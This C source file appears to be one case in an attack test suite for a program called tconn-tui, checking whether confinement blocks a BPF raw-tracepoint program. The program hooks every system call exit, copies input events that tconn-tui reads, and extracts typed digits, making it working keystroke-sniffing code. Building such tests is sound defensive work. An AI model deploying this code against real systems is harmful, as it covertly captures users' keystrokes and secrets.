// SPDX-License-Identifier: Apache-2.0
/*
 * A BPF program at the end of every system call: where tconn-tui returns from read(), it
 * copies what was read out of tconn-tui's memory.
 *
 * attack: bpf_raw_tracepoint
 * class: process
 * when: before
 * judge: keys
 * quick: yes
 * defence: confinement
 * why: bpf_probe_read_user() in another process; lockdown does not stop it (tried), bpf(2) is
 *      denied, CAP_BPF and CAP_PERFMON gone
 */
#include <errno.h>
#include <linux/input.h>
#include <string.h>
#include <sys/syscall.h>

#include "bpf.h"
#include "evdev.h"
#include "report.h"

enum {
	EVENTS	= 9,				/* of one read() */
	BYTES	= EVENTS * (int)sizeof(struct input_event),
	/* The stack below its end, r10. */
	COPY	= -8 - BYTES,			/* {u64 length, events} */
	WORD	= COPY - 8,
	COMM	= WORD - 16,
	/* struct pt_regs of x86-64 */
	PT_SI	= 104,
	PT_NR	= 120,				/* orig_ax */
};

struct copy {
	uint64_t length;
	struct input_event events[EVENTS];
};

_Static_assert(sizeof(struct copy) == 8 + BYTES, "as the program has it");

/* r7 = the word at that offset of the registers, whose address is in r8 */
#define LOAD_REGISTER(offset, skip)					\
	BPF_COPY(BPF_REG_1, BPF_REG_10),				\
	BPF_PLUS(BPF_REG_1, WORD),					\
	BPF_SET(BPF_REG_2, 8),						\
	BPF_COPY(BPF_REG_3, BPF_REG_8),					\
	BPF_PLUS(BPF_REG_3, offset),					\
	BPF_HELPER(BPF_FUNC_probe_read_kernel),				\
	BPF_SKIP32(BPF_JNE, BPF_REG_0, 0, skip),			\
	BPF_LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, WORD)

static int load(int queue)
{
	uint64_t name[2] = { 0 };

	memcpy(name, "tconn-tui", 9);
	/* The context: registers, result, 64 bits each. Skips lead to the last two. */
	const struct bpf_insn insns[] = {
		BPF_LOAD(BPF_DW, BPF_REG_8, BPF_REG_1, 0),
		BPF_LOAD(BPF_DW, BPF_REG_6, BPF_REG_1, 8),
		BPF_SKIP32(BPF_JSLT, BPF_REG_6, (int)sizeof(struct input_event), 40),
		BPF_COPY(BPF_REG_1, BPF_REG_10),
		BPF_PLUS(BPF_REG_1, COMM),
		BPF_SET(BPF_REG_2, 16),
		BPF_HELPER(BPF_FUNC_get_current_comm),
		BPF_LOAD(BPF_DW, BPF_REG_1, BPF_REG_10, COMM),
		BPF_SET64(BPF_REG_2, name[0]),
		BPF_SKIP64(BPF_JNE, BPF_REG_1, BPF_REG_2, 32),
		BPF_LOAD(BPF_H, BPF_REG_1, BPF_REG_10, COMM + 8),
		BPF_SKIP32(BPF_JNE, BPF_REG_1, (int)name[1], 30),
		LOAD_REGISTER(PT_NR, 23),
		BPF_SKIP32(BPF_JNE, BPF_REG_7, SYS_read, 21),
		LOAD_REGISTER(PT_SI, 14),
		BPF_COPY(BPF_REG_1, BPF_REG_10),
		BPF_PLUS(BPF_REG_1, COPY + 8),
		BPF_SET(BPF_REG_2, BYTES),
		BPF_COPY(BPF_REG_3, BPF_REG_7),
		BPF_HELPER(BPF_FUNC_probe_read_user),
		BPF_SKIP32(BPF_JNE, BPF_REG_0, 0, 7),
		BPF_STORE(BPF_DW, BPF_REG_10, BPF_REG_6, COPY),
		BPF_SET_MAP(BPF_REG_1, queue),
		BPF_COPY(BPF_REG_2, BPF_REG_10),
		BPF_PLUS(BPF_REG_2, COPY),
		BPF_SET(BPF_REG_3, BPF_ANY),
		BPF_HELPER(BPF_FUNC_map_push_elem),
		BPF_SET(BPF_REG_0, 0),
		BPF_RETURN(),
	};
	const struct bpf_program program = {
		.type = BPF_PROG_TYPE_RAW_TRACEPOINT,
		.insns = insns,
		.count = sizeof(insns) / sizeof(*insns),
	};

	return bpf_load(&program);
}

static void print_copy(const struct copy *copy)
{
	size_t i, count = copy->length / sizeof(*copy->events);
	char digits[EVENTS + 1];
	size_t len = 0;

	for (i = 0; i < count && i < EVENTS; i++) {
		const struct input_event *event = &copy->events[i];

		if (event->type == EV_KEY && event->value == 1 && evdev_digit(event->code))
			digits[len++] = evdev_digit(event->code);
	}
	digits[len] = '\0';
	if (len)
		attack_digits(digits);
}

int main(void)
{
	struct copy copy;
	int queue, ret;

	attack_init();
	queue = bpf_queue_new(sizeof(copy));
	ret = queue < 0 ? queue : load(queue);
	if (ret >= 0)
		ret = bpf_attach(ret, "sys_exit");
	attack_ready();
	if (ret < 0)
		attack_failed("no program at a raw tracepoint: %s", strerror(-ret));
	while (!attack_wait(50))
		while (!bpf_queue_pop(queue, &copy))
			print_copy(&copy);
	attack_done();
}
